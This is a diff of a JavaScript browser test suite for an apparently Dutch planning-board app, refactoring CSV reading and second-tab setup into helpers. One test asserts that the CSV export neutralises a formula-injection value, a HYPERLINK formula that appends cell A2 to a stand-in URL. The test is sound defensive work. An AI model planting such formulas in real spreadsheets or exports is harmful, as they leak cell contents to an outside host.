@@ -3,10 +3,9 @@
 // would be formulas, replace without room, and wiping this browser.
 import { describe, test } from "node:test";
 import assert from "node:assert/strict";
-import { execFileSync } from "node:child_process";
 import { readFile } from "node:fs/promises";
 
-import { axe, boardKey, card, INDEX_KEY, open, openId, rawStored, setup, stored } from "./helpers.mjs";
+import { axe, boardKey, card, INDEX_KEY, open, openId, rawStored, readCsv, secondTab, setup, stored } from "./helpers.mjs";
 
 setup();
 
@@ -131,15 +130,7 @@ describe("bounds", () => {
       page.waitForEvent("download"),
       page.getByRole("button", { name: "Excel (.csv)" }).click(),
     ]);
-    const rows = JSON.parse(
-      execFileSync("python3", [
-        "-c",
-        `import csv, json, sys
-with open(sys.argv[1], encoding="utf-8-sig", newline="") as f:
-    print(json.dumps(list(csv.reader(f, delimiter=";"))))`,
-        await download.path(),
-      ]).toString(),
-    );
+    const rows = readCsv(await download.path());
     const row = rows.find((r) => r[2].includes("HYPERLINK"));
     assert.equal(row[2], `'=HYPERLINK("http://example.invalid/?"&A2,"Klik hier")`);
     assert.equal(row[4], "'+31 20 123 4567");
@@ -181,9 +172,7 @@ with open(sys.argv[1], encoding="utf-8-sig", newline="") as f:
 describe("a shared PC", () => {
   test("Wis alle gegevens removes every board of this browser after saying how many, and nothing else; another tab does not write them back", async (t) => {
     const page = await open(t);
-    const other = await page.context().newPage();
-    await other.goto(page.url());
-    await other.locator(".card").first().waitFor();
+    const other = await secondTab(page);
     await page.evaluate(() => {
       localStorage.setItem("andere-app", "blijft");
       localStorage.setItem("planbord.instelling.sneltoetsen", "uit");
